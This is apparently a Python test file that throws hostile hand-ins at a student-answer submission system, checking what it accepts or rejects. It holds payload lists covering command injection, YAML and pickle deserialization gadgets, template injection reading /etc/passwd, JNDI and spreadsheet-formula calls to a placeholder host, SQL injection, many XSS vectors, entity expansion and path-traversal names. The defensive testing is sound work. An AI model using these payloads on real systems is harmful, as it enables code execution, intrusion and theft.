"""Hostile answers: code in texts, payloads in every field, wrong types, broken bytes, forged people."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import zipfile
from collections.abc import Callable, Iterator
from datetime import timedelta
from typing import Any

from builders import answer
from hostile import LIVE, TRAP, Case, Files, Target

Aim = Callable[[str], str]
_CODE = (
    f"import os; os.system({TRAP!r})",
    f"!{TRAP}",
    f"%%bash\n{TRAP}",
    f"%%javascript\n{LIVE}",
    f"get_ipython().system({TRAP!r})",
    f"__import__('subprocess').run({TRAP!r}, shell=True)",
    f"exec(\"__import__('os').system({TRAP!r})\")",
    f"`{TRAP}` $({TRAP}) ; {TRAP} | sh",
    f"!!python/object/apply:os.system [{TRAP!r}]",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{% include '/etc/passwd' %}",
    "${jndi:ldap://@host@/x} #{7*7} <%= 7*7 %> @host@",
    "'); DROP TABLE grade; --",
    f"=cmd|' /C {TRAP}'!A0",
    '=HYPERLINK("http://@host@/","open")',
    "### BEGIN SOLUTION\n1.0\n### END SOLUTION\n### BEGIN HIDDEN TESTS",
    "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m\u0085\u2028",
    "\u202egpj.exe \u2066\u200b\ufeff A\u0301" + "\u0301" * 500,
    "x" * 199_000,
    "<" * 50_000,
)
_MARKUP = (
    f"<script>{LIVE}</script>",
    f'<img src=x onerror="{LIVE}">',
    f'<svg onload="{LIVE}"><script>{LIVE}</script></svg>',
    f'<iframe srcdoc="<script>parent.{LIVE}</script>"></iframe><iframe src="javascript:{LIVE}"></iframe>',
    f'<object data="data:text/html,<script>{LIVE}</script>"></object><embed src="http://@host@/e">',
    f'<a href="javascript:{LIVE}">a</a> [a](javascript:{LIVE}) [b](data:text/html,<script>{LIVE}</script>)',
    '<meta http-equiv="refresh" content="0;url=http://@host@/"><base href="http://@host@/">',
    "<style>@import 'http://@host@/s.css'; * { background: url(http://@host@/b) }</style>",
    '<link rel="stylesheet" href="http://@host@/l.css">![i](http://@host@/i.png)<img src="//@host@/j.png">',
    f"</textarea></title></pre></script><script>{LIVE}</script>",
    f"--><script>{LIVE}</script><!-- ]]><script>{LIVE}</script>",
    f'" autofocus onfocus="{LIVE}" x="\' onmouseover=\'{LIVE}',
    f'<form action="http://@host@/f"><input autofocus onfocus="{LIVE}"><button>Save</button></form>',
    f'<details open ontoggle="{LIVE}"><video><source onerror="{LIVE}"></video></details>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={LIVE}&gt;">',
    f"$$\\href{{javascript:{LIVE}}}{{x}} \\unicode{{<img src=1 onerror={LIVE}>}}$$",
    f"&lt;script&gt;{LIVE}&lt;/script&gt; &#60;script&#62;{LIVE}&#60;/script&#62;",
    f"```{{=html}}\n<script>{LIVE}</script>\n```\n~~~html\n<script>{LIVE}</script>\n~~~",
    f"<scr<script>ipt>{LIVE}</scr</script>ipt><ScRiPt >{LIVE}</sCrIpT>",
    f"<template><script>{LIVE}</script></template><noscript><p title='</noscript><img onerror={LIVE}>'>",
)


def answers_of_every_kind(aim: Aim) -> Iterator[Case]:
    """Return texts that are let through and never come alive, then everything that is refused."""
    for number, text in enumerate(map(aim, (*_CODE, *_MARKUP))):
        yield _text_case(f"text {number}", text, by_mail=number % 2 == 1)
    yield from _payload_in_every_field(aim(f"<script>{LIVE}</script>"))
    yield from _wrong_types()
    yield from _broken_bytes()


def _text_case(name: str, text: str, *, by_mail: bool) -> Case:
    if by_mail:
        return Case(name, "accepted", mail=lambda at, who: (f"{who}.json", at.with_text(who, text)))
    return Case(name, "accepted", files=lambda at, who: _with(at, at.with_text(who, text)))


def _with(at: Target, raw: bytes) -> Files:
    return {"responses.json": raw, f"{at.session}.ipynb": at.issued}


def _answers(name: str, says: str, make: Callable[[Target, str], bytes], verdict: str = "damaged") -> Case:
    return Case(name, verdict, says, files=lambda at, who: _with(at, make(at, who)))


def _payload_in_every_field(payload: str) -> Iterator[Case]:
    whole = ("schema", "session", "candidate", "handed_in_at", "answers", "portfolio", "surprise")
    for name in whole:
        yield _answers(f"payload as {name}", name, lambda at, who, n=name: at.handin(who, **{n: payload}))
    for name in ("id", "kind", "saved_at", "content_version", "sha256", "value", "surprise"):
        yield _answers(
            f"payload as {name} of an answer",
            "answers",
            lambda at, who, n=name: at.with_text(who, "x", **{n: payload}),
        )
    for name, value in (("prompt", payload), ("lang", payload[:35])):
        yield _answers(
            f"payload as {name}",
            "",
            lambda at, who, n=name, v=value: at.with_text(who, "x", **{n: v}),
            "accepted",
        )
    chosen = answer("m01-r1", {"text": payload}, "reflection")
    yield _answers(
        "payload in the portfolio", "", lambda at, who: at.handin(who, portfolio=[chosen]), "accepted"
    )


def _wrong_types() -> Iterator[Case]:
    for name in ("schema", "session", "candidate", "handed_in_at", "answers", "portfolio"):
        for wrong in (None, 7.5, {"a": 1}, True):
            yield _answers(
                f"{wrong} as {name}", name, lambda at, who, n=name, w=wrong: at.handin(who, **{n: w})
            )
    for version in (0, 2, 99, -1, "1", 10**30):
        yield _answers(
            f"schema {version}", "this kit reads 1", lambda at, who, v=version: at.handin(who, schema=v)
        )
    for value in (
        None,
        5,
        [],
        {"text": 5},
        {"text": "x", "html": "<b>"},
        {"chosen": ["a"]},
        {"text": "a\ud800"},
    ):
        yield _answers(f"value {value!a}", "answers", lambda at, who, v=value: _valued(at, who, v))


def _valued(at: Target, who: str, value: Any) -> bytes:
    entry = {**answer(at.task, {"text": "x"}, "reflection"), "value": value}
    raw = json.loads(at.handin(who, answers=[]))
    return json.dumps({**raw, "answers": [entry]}).encode()


def _broken_bytes() -> Iterator[Case]:
    deep = 100_000
    bytes_of: dict[str, bytes] = {
        "nothing": b"",
        "only spaces": b" " * 1000,
        "nested lists": b"[" * deep,
        "nested lists, closed": b"[" * deep + b"]" * deep,
        "nested objects": b'{"a":' * deep + b"1" + b"}" * deep,
        "not UTF-8": b'{"schema": 1, "x": "\xff\xfe"}',
        "UTF-16": '{"schema": 1}'.encode("utf-16"),
        "NUL": b"\x00" * 5000,
        "NaN": b'{"schema": NaN}',
        "infinity": b'{"schema": -Infinity}',
        "a number beyond floats": b'{"schema": 1e999}',
        "a number of 5,000 digits": b'{"schema": ' + b"9" * 5000 + b"}",
        "a list": b"[]",
        "a string": b'"responses"',
        "gzip": gzip.compress(b"{}" * 1000, mtime=0),
        "a program": f"#!/bin/sh\n{TRAP}\n".encode(),
        "a page": f"<!doctype html><script>{LIVE}</script>".encode(),
        "yaml": f"!!python/object/apply:os.system [{TRAP!r}]".encode(),
        "entities that grow": b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
        "a pickle": pickle.dumps(_Bomb()),
        "a zip called json": _zip_bytes(),
    }
    for name, raw in bytes_of.items():
        yield Case(name, says="responses.json", files=lambda at, who, r=raw: _with(at, r))
        if len(raw) > 100 and name.startswith("nested"):
            yield Case(f"{name}, by mail", says="", mail=lambda at, who, r=raw: ("answers.json", r))
    yield _answers(
        "10 MB of text", "larger than 8 MB", lambda at, who: at.with_text(who, "word " * 2 * 2**20)
    )
    yield _answers("7 MB of text", "characters", lambda at, who: at.with_text(who, "a" * 7 * 2**20))
    yield _answers("cut short", "not JSON", lambda at, who: at.handin(who)[:-40])
    yield _answers("something after it", "not JSON", lambda at, who: at.handin(who) + b"{}")
    yield _answers(
        "a name twice",
        "stands twice",
        lambda at, who: at.handin(who).replace(b'"schema"', b'"session": "a1", "schema"'),
    )
    yield _answers("half a surrogate pair", "not text", lambda at, who: _escaped(at, who, rb"\ud800"))
    yield _answers("NUL in a text", "not text", lambda at, who: _escaped(at, who, rb"\u0000"))
    yield _answers("a text changed later", "was changed", lambda at, who: _escaped(at, who, b"other"))
    yield _answers(
        "201 answers", "more than 200", lambda at, who: at.handin(who, answers=at.answers[:1] * 201)
    )


def _escaped(at: Target, who: str, inside: bytes) -> bytes:
    return at.with_text(who, "@here").replace(b"@here", inside)


class _Bomb:
    """Runs the trap when it is unpickled."""

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        import os

        return os.system, (TRAP,)


def _zip_bytes() -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as archive:
        archive.writestr(zipfile.ZipInfo("responses.json"), b"{}")
    return raw.getvalue()


def people_of_every_kind() -> Iterator[Case]:
    """Return forged ids, times and hashes, and answers that the session does not ask for."""
    for number, name in enumerate(
        ("../../etc", "..", "-rf", "/root", "a b", "nikа", "x" * 65, "a\nb", "CON.", "")
    ):
        yield _answers(f"candidate {number}", "candidate", lambda at, who, n=name: at.handin(n))
    yield Case(
        "in a neighbour's name",
        "foreign",
        "in the name of",
        claimed="n01",
        files=lambda at, who: _with(at, at.handin(who)),
    )
    yield _answers("a neighbour's answers", "in the name of", lambda at, who: at.handin("n01"), "foreign")
    yield Case(
        "a stranger", "foreign", "not on the list", mail=lambda at, who: ("a.json", at.handin(f"{who}-x"))
    )
    yield _answers(
        "another session",
        "of session a7",
        lambda at, who: at.handin(who, session="a7", answers=[]),
        "foreign",
    )
    times = {
        "a clock that was never set": ("1970-01-01T00:00:07Z", "a clock is wrong"),
        "the first year": ("0001-01-01T00:00:00Z", "a clock is wrong"),
        "the last year": ("9999-12-31T23:59:59.999999Z", "a clock is wrong"),
        "saved after it was handed in": ("2026-11-20T09:00:00Z", "saved after"),
    }
    for name, (time, says) in times.items():
        yield _answers(name, says, lambda at, who, t=time: at.handin(who, handed_in_at=t), "accepted")
    for time in (
        "2026-02-30T00:00:00Z",
        "2026-11-20T25:00:00Z",
        "2026-11-20T12:00:00+14:00",
        "２０２６-11-20T12:00:00Z",
    ):
        yield _answers(
            f"time {time!a}", "handed_in_at", lambda at, who, t=time: at.handin(who, handed_in_at=t)
        )
    strange: dict[str, tuple[str, Callable[[Target], list[dict[str, Any]]]]] = {
        "no hash": ("sha256", lambda at: [{**at.answers[0], "sha256": "0" * 64}]),
        "an answer twice": ("stands twice", lambda at: at.answers[:1] * 2),
        "of another unit": ("is not of", lambda at: [answer("m01-r1", {"text": "x"}, "reflection")]),
        "not asked": ("answers[0]", lambda at: [answer(f"{at.session}-t9", {"text": "x"}, "reflection")]),
        "of another kind": ("answers[0]", lambda at: [answer(at.check, {"text": "x"}, "reflection")]),
        "an option that is not there": ("option", lambda at: [answer(at.check, {"chosen": ["zz"]}, "check")]),
        "a thousand options": (
            "answers[0]",
            lambda at: [answer(at.check, {"chosen": ["a"] * 1000}, "check")],
        ),
        "a score of its own": ("answers", lambda at: [{**at.answers[0], "score": 100}]),
    }
    for name, (says, make) in strange.items():
        yield _answers(name, says, lambda at, who, m=make: at.handin(who, answers=m(at)))
    yield _answers("a second hand-in", "", _later, "accepted")


def _later(at: Target, who: str) -> bytes:
    later = at.at + timedelta(seconds=1)
    return at.handin(who, handed_in_at=later.isoformat().replace("+00:00", "Z"))
